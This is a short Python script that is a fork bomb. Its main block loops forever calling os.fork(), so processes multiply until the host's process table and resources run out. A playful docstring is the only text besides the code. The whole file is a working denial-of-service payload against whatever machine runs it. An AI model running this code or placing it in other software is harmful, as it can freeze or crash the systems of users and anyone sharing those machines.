"""Forks for ever, and so do all that are forked."""

import os

if __name__ == "__main__":
    while True:
        os.fork()
